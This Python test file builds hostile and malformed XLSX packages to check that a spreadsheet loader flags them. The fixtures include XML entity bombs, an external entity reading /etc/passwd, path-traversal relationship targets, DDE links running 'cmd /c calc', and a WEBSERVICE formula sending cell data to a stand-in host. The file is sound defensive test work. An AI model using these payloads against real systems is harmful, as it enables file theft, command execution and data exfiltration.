"""Sheets and packages whose XML is a trap, is broken, or is merely written in an unusual and legal way."""

import re

from tests.loaders.workshop import (
    BOOK,
    META,
    REL,
    RELS,
    SHEET,
    STRINGS,
    STYLES,
    TYPES,
    Blanks,
    Marks,
    add,
    be02,
    be08,
    cell,
    packed,
    parts,
    related,
    replaced,
    shared,
    text_cell,
    with_parts,
    without,
)

UNSAFE = "unsafe_package"
BROKEN = "broken_workbook"
BOTH = "broken_workbook unsafe_package"
HONEST = be08()
DTD = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
STRICT = "http://purl.oclc.org/ooxml/spreadsheetml/main"
MACRO_TYPE = "application/vnd.ms-office.vbaProject"


def dtd(blanks: Blanks, name: str, text: str = DTD) -> bytes:
    """A document type before the first element of a part."""
    found = parts(shared(blanks.be08))
    xml = found[name].decode()
    head = re.match(r"\s*<\?xml[^>]*\?>", xml)
    end = head.end() if head else 0
    return packed(found | {name: (xml[:end] + text + xml[end:]).encode()})


def encoded(blanks: Blanks, encoding: str, declared: str, text: str = "", mark: bytes = b"") -> bytes:
    """The sheet in another encoding."""
    found = parts(blanks.be08)
    xml = f'<?xml version="1.0" encoding="{declared}"?>{text}' + found[SHEET].decode()
    return packed(found | {SHEET: mark + xml.encode(encoding, "xmlcharrefreplace")})


def sheet(blanks: Blanks, old: str, new: str) -> bytes:
    """The BE-08 sheet with one piece of its XML replaced."""
    return replaced(blanks.be08, SHEET, old, new)


def row5(blanks: Blanks) -> str:
    """The XML of the only row of figures."""
    return re.search(r'<row r="5".*?</row>', parts(blanks.be08)[SHEET].decode(), re.DOTALL)[0]


def numbered(blanks: Blanks, edit) -> bytes:
    """The BE-08 sheet after edit(xml)."""
    found = parts(blanks.be08)
    return packed(found | {SHEET: edit(found[SHEET].decode()).encode()})


def bare(xml: str) -> str:
    """References left out: cells and rows count from where they stand. Blank cells keep their places."""
    return re.sub(r'<(c|row) r="[A-Z]*\d+"', r"<\1", xml)


def prefixed(content: bytes) -> bytes:
    """Every element of sheets, strings, styles and workbook with a prefix."""
    found = parts(content)
    for name in found:
        if name.startswith("xl/") and name.endswith(".xml") and "theme" not in name:
            xml = found[name].decode().replace(f'xmlns="{MAIN}"', f'xmlns:x="{MAIN}"')
            found[name] = re.sub(r"<(/?)(?=[A-Za-z])(?![a-z]+:)", r"<\1x:", xml).encode()
    return packed(found)


def strict(content: bytes) -> bytes:
    """The namespaces of ISO 29500 Strict, as Excel's own save-as writes."""
    found = parts(content)
    pairs = (
        (MAIN, STRICT),
        (REL, "http://purl.oclc.org/ooxml/officeDocument/relationships"),
        ("http://schemas.openxmlformats.org/drawingml/2006/main", "http://purl.oclc.org/ooxml/drawingml/main"),
    )
    for name in found:
        for old, new in pairs:
            found[name] = found[name].replace(old.encode(), new.encode())
    return packed(found)


def moved(content: bytes, old: str, new: str, target: str) -> bytes:
    """A part under another name, with relationship and content type going along."""
    found = parts(content)
    found = {(new if name == old else name): part for name, part in found.items()}
    found[RELS] = re.sub(rf'Target="/?{re.escape(old)}"', f'Target="{target}"', found[RELS].decode()).encode()
    found[TYPES] = found[TYPES].replace(f"/{old}".encode(), f"/{new}".encode())
    return packed(found)


def target(blanks: Blanks, written: str, more: str = "") -> bytes:
    """The first sheet's relationship leads elsewhere, or there in another way."""
    return replaced(blanks.be08, RELS, f'Target="/{SHEET}"', f'Target="{written}" {more}')


def elsewhere(blanks: Blanks) -> bytes:
    """The workbook part itself under another name."""
    found = parts(blanks.be08)
    found["xl/book.xml"] = found.pop(BOOK)
    found["xl/_rels/book.xml.rels"] = found.pop(RELS)
    found["_rels/.rels"] = found["_rels/.rels"].replace(b"xl/workbook.xml", b"xl/book.xml")
    found[TYPES] = found[TYPES].replace(b"/xl/workbook.xml", b"/xl/book.xml")
    return packed(found)


def nested(depth: int) -> str:
    """Elements within elements."""
    return "<extLst>" + "<ext>" * depth + "</ext>" * depth + "</extLst>"


def crowded(blanks: Blanks, rows: int, columns: int, first: int = 20) -> bytes:
    """So many cells to the right of the table."""
    letters = [_letters(number) for number in range(first, first + columns)]
    found = parts(blanks.be08)
    text = found[SHEET].decode()
    start = text.index('<row r="6"')
    body = "".join(
        f'<row r="{n}">' + "".join(f'<c r="{letter}{n}"><v>1</v></c>' for letter in letters) + "</row>"
        for n in range(6, 6 + rows)
    )
    text = text[:start] + body + text[text.index("</sheetData>") :]
    return packed(found | {SHEET: text.encode()})


def _letters(number: int) -> str:
    found = ""
    while number:
        number, rest = divmod(number - 1, 26)
        found = chr(65 + rest) + found
    return found


def many_sheets(blanks: Blanks, number: int) -> bytes:
    """The sheet listed over and over under new names."""
    lines = "".join(f'<sheet name="s{n}" sheetId="{n + 10}" r:id="rId2"/>' for n in range(number))
    return replaced(blanks.be08, BOOK, "</sheets>", f"{lines}</sheets>")


def far(blanks: Blanks, ref: str) -> bytes:
    """One more cell, far away."""
    row = re.sub(r"[A-Z]+", "", ref)
    return sheet(blanks, "</sheetData>", f'<row r="{row}"><c r="{ref}"><v>1</v></c></row></sheetData>')


def with_vba(blanks: Blanks, name: str = "xl/vbaProject.bin", content_type: str = MACRO_TYPE) -> bytes:
    """A macro project."""
    content = with_parts(blanks.be08, {name: b"\xcc\x61\x88\x00" + b"Attribute VB_Name" * 20})
    kind = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    return related(
        content, kind, name.removeprefix("xl/"), f'<Override PartName="/{name}" ContentType="{content_type}"/>'
    )


def macro_sheet(blanks: Blanks) -> bytes:
    """An Excel 4 macro sheet."""
    name = "xl/macrosheets/sheet1.xml"
    content = with_parts(blanks.be08, {name: f'<xm:macrosheet xmlns:xm="{MAIN}"><sheetData/></xm:macrosheet>'})
    kind = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
    return related(
        content,
        kind,
        "macrosheets/sheet1.xml",
        f'<Override PartName="/{name}" ContentType="application/vnd.ms-excel.macrosheet+xml"/>',
    )


def external(blanks: Blanks, body: str) -> bytes:
    """A link to another workbook, or to a program."""
    name = "xl/externalLinks/externalLink1.xml"
    xml = f'<externalLink xmlns="{MAIN}" xmlns:r="{REL}">{body}</externalLink>'
    rel = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{REL}/externalLinkPath" Target="http://192.0.2.1/secret.xlsx" TargetMode="External"/></Relationships>'
    )
    content = with_parts(blanks.be08, {name: xml, "xl/externalLinks/_rels/externalLink1.xml.rels": rel})
    return related(
        content,
        "externalLink",
        "externalLinks/externalLink1.xml",
        f'<Override PartName="/{name}" '
        'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>',
    )


def chart_sheet(blanks: Blanks) -> bytes:
    """A sheet that is a chart."""
    name = "xl/chartsheets/sheet1.xml"
    content = with_parts(blanks.be08, {name: f'<chartsheet xmlns="{MAIN}"><sheetViews/></chartsheet>'})
    content = related(
        content,
        "chartsheet",
        "chartsheets/sheet1.xml",
        f'<Override PartName="/{name}" ContentType='
        '"application/vnd.openxmlformats-officedocument.spreadsheetml.chartsheet+xml"/>',
    )
    identity = re.search(r'Id="(rIdX\d+)"', parts(content)[RELS].decode())[1]
    return replaced(content, BOOK, "</sheets>", f'<sheet name="图" sheetId="77" r:id="{identity}"/></sheets>')


def string(index: str):
    """Shared strings, and the key cell pointing at another one."""

    def make(blanks: Blanks) -> bytes:
        return cell(shared(blanks.be08), "C5", f"<v>{index}</v>", 't="s"')

    return make


# Document types and encodings
for where in (
    SHEET,
    META,
    STYLES,
    STRINGS,
    BOOK,
    RELS,
    TYPES,
    "_rels/.rels",
    "docProps/core.xml",
    "docProps/app.xml",
    "xl/theme/theme1.xml",
):
    add(f"dtd: in {where}", lambda b, where=where: dtd(b, where), UNSAFE)
add("dtd: an outside entity", lambda b: dtd(b, SHEET, OUTSIDE), UNSAFE)
add("dtd: behind a long comment", lambda b: dtd(b, SHEET, f"<!--{' ' * 200_000}-->{DTD}"), UNSAFE)
add("dtd: behind a processing instruction", lambda b: dtd(b, SHEET, f"<?a b?>\n{DTD}"), UNSAFE)
add("dtd: with nothing in it", lambda b: dtd(b, SHEET, "<!DOCTYPE worksheet>"), UNSAFE)
add("dtd: used in a cell", lambda b: cell(dtd(b, SHEET), "C5", "<is><t>&c;</t></is>", 't="inlineStr"'), BOTH)
add("dtd: in UTF-16", lambda b: encoded(b, "utf-16-le", "UTF-16", DTD, b"\xff\xfe"), UNSAFE)
add("dtd: in UTF-16 without a mark", lambda b: encoded(b, "utf-16-be", "UTF-16BE", DTD), BOTH)
add("dtd: in EBCDIC", lambda b: encoded(b, "cp037", "cp037", DTD), BOTH)
add("dtd: in UTF-7", lambda b: encoded(b, "utf-7", "UTF-7", DTD), BOTH)
add("dtd: in UTF-32", lambda b: encoded(b, "utf-32", "UTF-32", DTD), BOTH)
add("encoding: UTF-16", lambda b: encoded(b, "utf-16-le", "UTF-16", "", b"\xff\xfe"), BOTH + " accepted", HONEST)
add("encoding: GBK", lambda b: encoded(b, "gbk", "GBK"), BOTH + " accepted", HONEST)
add("encoding: says UTF-8 and is GBK", lambda b: encoded(b, "gbk", "UTF-8"), BOTH)
add("encoding: says something unheard of", lambda b: encoded(b, "utf-8", "x-rot13"), BOTH)
add("honest encoding: UTF-8 with a mark", lambda b: encoded(b, "utf-8", "utf-8", "", b"\xef\xbb\xbf"), None, HONEST)
add(
    "honest encoding: declared standalone",
    lambda b: numbered(b, lambda x: '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n' + x),
    None,
    HONEST,
)
add(
    "honest: text that speaks of a DOCTYPE",
    lambda b: text_cell(b.be02, "E5", "<!DOCTYPE html> <!ENTITY>"),
    None,
    be02({(0, "project_name"): "<!DOCTYPE html> <!ENTITY>"}),
)

# Broken XML
add("xml: cut off", lambda b: numbered(b, lambda x: x[: len(x) // 2]), BROKEN)
add("xml: tags crossed", lambda b: sheet(b, "</sheetData>", "</sheetdata>"), BROKEN)
add("xml: a control character", lambda b: sheet(b, "鄂汇办APP", "鄂汇办\x01APP"), BROKEN)
add("xml: a reference to NUL", lambda b: sheet(b, "鄂汇办APP", "鄂汇办&#0;APP"), BROKEN)
add("xml: bytes that are no UTF-8", lambda b: replaced(b.be08, SHEET, "鄂".encode(), b"\xff\xfe\xfd"), BOTH)
add("xml: an unknown entity", lambda b: sheet(b, "鄂汇办APP", "&nbsp;APP"), BOTH)
add("xml: two roots", lambda b: numbered(b, lambda x: x + x), BROKEN)
add("xml: an empty sheet part", lambda b: with_parts(b.be08, {SHEET: ""}), BROKEN)
add(
    "xml: no sheet data",
    lambda b: numbered(b, lambda x: re.sub(r"<sheetData>.*</sheetData>", "", x, flags=re.DOTALL)),
    "broken_workbook no_header no_template no_rows",
)
add(
    "xml: another root",
    lambda b: with_parts(b.be08, {SHEET: "<html><body/></html>"}),
    "broken_workbook no_header no_template unsafe_package",
)
add(
    "xml: 200,000 elements deep",
    lambda b: sheet(b, "</worksheet>", nested(200_000) + "</worksheet>"),
    BOTH + " reader_gave_up too_many_cells accepted",
    HONEST,
)
add(
    "xml: 5,000 deep inside a cell",
    lambda b: cell(b.be08, "C5", "<is>" + "<r>" * 5000 + "</r>" * 5000 + "</is>", 't="inlineStr"'),
    BOTH + " reader_gave_up required",
)
add(
    "xml: an attribute of 2 MB",
    lambda b: sheet(b, "<sheetData>", f'<sheetData a="{"x" * 2_000_000}">'),
    BOTH + " accepted",
    HONEST,
)
add(
    "xml: 20,000 attributes",
    lambda b: sheet(b, "<sheetData>", "<sheetData " + " ".join(f'a{n}="1"' for n in range(20_000)) + ">"),
    BOTH + " accepted",
    HONEST,
)
add(
    "xml: 100,000 namespaces",
    lambda b: sheet(b, "<sheetData>", "<sheetData " + " ".join(f'xmlns:n{n}="u{n}"' for n in range(100_000)) + ">"),
    BOTH + " reader_gave_up accepted",
    HONEST,
)

# Parts and relationships
add("parts: no sheet", lambda b: without(b.be08, SHEET), BROKEN)
add("parts: no workbook", lambda b: without(b.be08, BOOK), BROKEN + " not_a_spreadsheet")
add("parts: no relationships", lambda b: without(b.be08, RELS), BROKEN)
add("parts: no content types", lambda b: without(b.be08, TYPES), BROKEN + " not_a_spreadsheet accepted", HONEST)
add(
    "parts: no root relationships",
    lambda b: without(b.be08, "_rels/.rels"),
    BROKEN + " not_a_spreadsheet accepted",
    HONEST,
)
add("parts: no shared strings", lambda b: without(shared(b.be08), STRINGS), BROKEN)
add("parts: no styles though they are named", lambda b: without(b.be08, STYLES), BROKEN + " accepted", HONEST)
add("parts: sheet leads nowhere", lambda b: target(b, "/xl/worksheets/sheet99.xml"), BROKEN)
add("parts: sheet leads out of the package", lambda b: target(b, "../../../../etc/passwd"), BOTH)
add("parts: sheet leads to the net", lambda b: target(b, "http://192.0.2.1/sheet.xml", 'TargetMode="External"'), BOTH)
add("parts: sheet leads to the styles", lambda b: target(b, "/xl/styles.xml"), BROKEN + " no_header no_template")
add(
    "parts: sheet leads to the workbook itself",
    lambda b: target(b, "/xl/workbook.xml"),
    BROKEN + " no_header no_template",
)
add("parts: unknown relationship id", lambda b: replaced(b.be08, BOOK, 'r:id="rId1"', 'r:id="rId404"'), BROKEN)
add("parts: a sheet without id", lambda b: replaced(b.be08, BOOK, 'r:id="rId1"', ""), BROKEN)
add(
    "parts: no sheets listed",
    lambda b: packed(parts(b.be08) | {BOOK: re.sub(rb"<sheets>.*</sheets>", b"<sheets/>", parts(b.be08)[BOOK])}),
    BROKEN + " no_template no_rows",
)
add(
    "parts: the same sheet listed twice",
    lambda b: replaced(b.be08, BOOK, "</sheets>", '<sheet name="again" sheetId="9" r:id="rId1"/></sheets>'),
    "several_sheets broken_workbook",
)
add("parts: 300 sheets", lambda b: many_sheets(b, 300), BOTH + " too_many_cells several_sheets")
add("parts: 20,000 sheets", lambda b: many_sheets(b, 20_000), BOTH + " too_many_cells several_sheets")
add(
    "parts: hundreds of sheets out of one",
    lambda b: replaced(
        b.be08,
        BOOK,
        "</sheets>",
        "".join(f'<sheet name="s{n}" sheetId="{n + 10}" r:id="rId1"/>' for n in range(39)) + "</sheets>",
    ),
    BOTH + " several_sheets too_many_cells",
)

# Shared strings
for written, label in (
    ("99999", "behind the end"),
    ("-1", "negative"),
    ("abc", "no number"),
    ("1.5", "a fraction"),
    ("", "empty"),
    ("999999999999999999999", "beyond all numbers"),
):
    add(f"strings: index {label}", string(written), "broken_workbook required" if not written else BROKEN)
add(
    "strings: the table is cut off",
    lambda b: with_parts(shared(b.be08), {STRINGS: f'<sst xmlns="{MAIN}"><si><t>a'}),
    BROKEN,
)
add("honest strings: a table as Excel writes it", lambda b: shared(b.be02), None, be02())
add(
    "honest strings: false counts",
    lambda b: shared(
        b.be02, lambda x: re.sub(r'count="\d+" uniqueCount="\d+"', 'count="4000000000" uniqueCount="3"', x)
    ),
    None,
    be02(),
)
add(
    "honest strings: no counts",
    lambda b: shared(b.be02, lambda x: re.sub(r' count="\d+" uniqueCount="\d+"', "", x)),
    None,
    be02(),
)
add(
    "honest strings: rich text and phonetics",
    lambda b: shared(
        b.be02,
        lambda x: x.replace(
            "<t>示例产业园一期3号厂房</t>",
            "<r><rPr><b/></rPr><t>示例</t></r><r><t>产业园一期3号厂房</t></r>"
            '<rPh sb="0" eb="2"><t>shili</t></rPh><phoneticPr fontId="1"/>',
        ),
    ),
    None,
    be02(),
)

# Rows and cells
add("cells: two values in one", lambda b: cell(b.be08, "D5", "<v>391</v><v>392</v>"), BROKEN)
add(
    "cells: a value and a text in one",
    lambda b: cell(b.be02, "E5", "<v>1</v><is><t>别的名称</t></is>", 't="inlineStr"'),
    BROKEN + " accepted",
    be02({(0, "project_name"): "别的名称"}),
)
add(
    "cells: the same one twice",
    lambda b: numbered(b, lambda x: x.replace('<c r="E5"', '<c r="D5"><v>392</v></c><c r="E5"', 1)),
    BROKEN,
)
add("cells: the row twice", lambda b: sheet(b, row5(b), row5(b) + row5(b).replace("391", "392")), BROKEN)
add(
    "cells: rows out of order",
    lambda b: numbered(b, lambda x: x.replace(row5(b), "").replace("</sheetData>", row5(b) + "</sheetData>")),
    BROKEN + " accepted",
    HONEST,
)
add(
    "cells: cells out of order",
    lambda b: numbered(b, lambda x: re.sub(r'(<c r="D5".*?</c>)(<c r="E5".*?</c>)', r"\2\1", x)),
    BROKEN + " accepted",
    HONEST,
)
for ref, label in (
    ("D", "no row"),
    ("5", "no column"),
    ("D0", "row 0"),
    ("5D", "turned round"),
    ("D-5", "negative"),
    ("ZZZZ5", "no such column"),
    ("D6", "another row"),
    ("XFE5", "one too far"),
    ("D5:E5", "a range"),
    ("D99999999999999", "no such row"),
    ("", "empty"),
    ("Ｄ５", "full-width"),
    ("R1C1", "R1C1"),
):
    add(f"cells: reference {label}", lambda b, ref=ref: sheet(b, 'r="D5"', f'r="{ref}"'), BROKEN)
add("cells: reference with dollars", lambda b: sheet(b, 'r="D5"', 'r="$D$5"'), BROKEN + " accepted", HONEST)
add("cells: reference in small letters", lambda b: sheet(b, 'r="D5"', 'r="d5"'), BROKEN + " accepted", HONEST)
add("cells: row says something else", lambda b: sheet(b, '<row r="5"', '<row r="50"'), BROKEN)
add("cells: row is negative", lambda b: sheet(b, '<row r="5"', '<row r="-5"'), BROKEN)
add("cells: row is a word", lambda b: sheet(b, '<row r="5"', '<row r="five"'), BROKEN)
add("cells: one at XFD1048576", lambda b: far(b, "XFD1048576"), "stray_row accepted", HONEST)
add("cells: one at A1048577", lambda b: far(b, "A1048577"), BROKEN + " stray_row")
add("cells: one in row 70,000", lambda b: far(b, "T70000"), "stray_row accepted", HONEST)
add(
    "cells: 900,000",
    lambda b: crowded(b, 60_000 - 6, 15),
    "too_many_cells stray_row unsafe_package too_large reader_gave_up accepted",
    HONEST,
    marks=Marks(is_heavy=True),
)
add(
    "cells: 1,500,000",
    lambda b: crowded(b, 150_000, 10),
    "too_many_cells stray_row unsafe_package too_large reader_gave_up",
    marks=Marks(is_heavy=True),
)
add("cells: 16,000 columns", lambda b: crowded(b, 3, 16_000), "stray_cell accepted", HONEST)
add("cells: an unknown type", lambda b: cell(b.be08, "D5", "<v>391</v>", 't="zz"'), BROKEN + " not_a_number")
add(
    "cells: style beyond the table",
    lambda b: cell(b.be08, "D5", "<v>391</v>", 't="n"', 99_999),
    BROKEN + " accepted",
    HONEST,
)
add("cells: style is a word", lambda b: sheet(b, '<c r="D5" s="', '<c r="D5" s="x'), BROKEN + " accepted", HONEST)
add(
    "cells: a value outside any cell",
    lambda b: sheet(b, "<sheetData>", "<sheetData><v>5</v>"),
    BROKEN + " accepted",
    HONEST,
)
add(
    "cells: a cell outside any row",
    lambda b: sheet(b, "</sheetData>", '<c r="D5"><v>5</v></c></sheetData>'),
    BROKEN + " accepted",
    HONEST,
)
add(
    "cells: two tables of data",
    lambda b: sheet(b, "</sheetData>", "</sheetData><sheetData>" + row5(b).replace("391", "392") + "</sheetData>"),
    BROKEN,
)
for ref, label in (("A1", "too small"), ("A1:XFD1048576", "too large"), ("A1:A1", "one cell"), ("Z90:A1", "backwards")):
    add(
        f"honest dimension: {label}",
        lambda b, ref=ref: numbered(b, lambda x: re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="{ref}"', x)),
        None,
        HONEST,
    )
add(
    "dimension: a word",
    lambda b: numbered(b, lambda x: re.sub(r'<dimension ref="[^"]*"', '<dimension ref="foo"', x)),
    BROKEN + " accepted",
    HONEST,
)
add("honest dimension: none", lambda b: numbered(b, lambda x: re.sub(r"<dimension[^>]*>", "", x)), None, HONEST)
add("honest cells: no references", lambda b: numbered(b, bare), None, HONEST)
add(
    "honest cells: no references to rows",
    lambda b: numbered(b, lambda x: re.sub(r'<row r="\d+"', "<row", x)),
    None,
    HONEST,
)

# Honest packages written in other ways
add("honest xml: prefixes", lambda b: prefixed(b.be02), None, be02())
add("honest xml: prefixes and shared strings", lambda b: prefixed(shared(b.be02)), None, be02())
add("honest xml: strict namespaces", lambda b: strict(b.be02), None, be02())
add("honest parts: relative target", lambda b: target(b, "worksheets/sheet1.xml"), None, HONEST)
add("honest parts: target with ./", lambda b: target(b, "./worksheets/sheet1.xml"), None, HONEST)
add("honest parts: target with ..", lambda b: target(b, "../xl/worksheets/sheet1.xml"), None, HONEST)
add(
    "honest parts: Chinese part name",
    lambda b: moved(b.be08, SHEET, "xl/worksheets/工作表1.xml", "worksheets/工作表1.xml"),
    None,
    HONEST,
)
add(
    "honest parts: a blank in a part name",
    lambda b: moved(b.be08, SHEET, "xl/worksheets/sheet 1.xml", "worksheets/sheet%201.xml"),
    "broken_workbook accepted",
    HONEST,
)
add("honest parts: another folder", lambda b: moved(b.be08, SHEET, "xl/pages/one.xml", "pages/one.xml"), None, HONEST)
add("honest parts: workbook under another name", elsewhere, None, HONEST)
add("honest parts: a chart sheet", chart_sheet, None, HONEST)

# Active content
add("active: macros", with_vba, "macros")
add("active: macros named .xlsm", with_vba, "macros wrong_extension", file_name="报送.xlsm")
add("active: macros under another name", lambda b: with_vba(b, "xl/data1.bin"), "macros")
add("active: macros in capitals", lambda b: with_vba(b, "xl/VBAPROJECT.BIN"), "macros")
add("active: an Excel 4 macro sheet", macro_sheet, "macros")
add(
    "active: workbook of the macro type",
    lambda b: replaced(
        b.be08,
        TYPES,
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    ),
    "macros unsupported_format wrong_extension accepted",
    HONEST,
)
add(
    "active: ActiveX",
    lambda b: with_parts(
        b.be08, {"xl/activeX/activeX1.xml": "<ax:ocx xmlns:ax='x'/>", "xl/activeX/activeX1.bin": b"\0" * 64}
    ),
    "embedded_object",
)
add(
    "active: an OLE object",
    lambda b: with_parts(b.be08, {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" * 20}),
    "embedded_object",
)
add(
    "active: an embedded document",
    lambda b: with_parts(b.be08, {"xl/embeddings/Microsoft_Word.docx": b.be08}),
    "embedded_object nested_archive",
)
DDE = '<ddeLink ddeService="cmd" ddeTopic="/c calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink>'
OLE = '<oleLink r:id="rId1" progId="Excel.Sheet.12"><oleItems/></oleLink>'
LINK = '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook>'
add("active: a DDE link", lambda b: external(b, DDE), "dde")
add("active: an OLE link", lambda b: external(b, OLE), "dde embedded_object external_links accepted", HONEST)
add(
    "active: a DDE formula",
    lambda b: cell(b.be08, "D5", "<f>cmd|'/c calc'!A0</f><v>391</v>"),
    "dde external_links formula_without_value embedded_object",
)
add("active: an external link", lambda b: external(b, LINK), None, HONEST, notes="external_links")
add(
    "active: a query connection",
    lambda b: with_parts(
        b.be08,
        {
            "xl/connections.xml": f'<connections xmlns="{MAIN}"><connection id="1" name="q" type="4"><webPr url="http://192.0.2.1/"/></connection>'
            "</connections>"
        },
    ),
    "external_links unsafe_package accepted",
    HONEST,
)
add(
    "active: a formula that asks the net",
    lambda b: cell(b.be08, "D5", '<f>WEBSERVICE("http://192.0.2.1/?"&amp;A1)</f><v>391</v>'),
    "external_links dde accepted",
    HONEST,
)
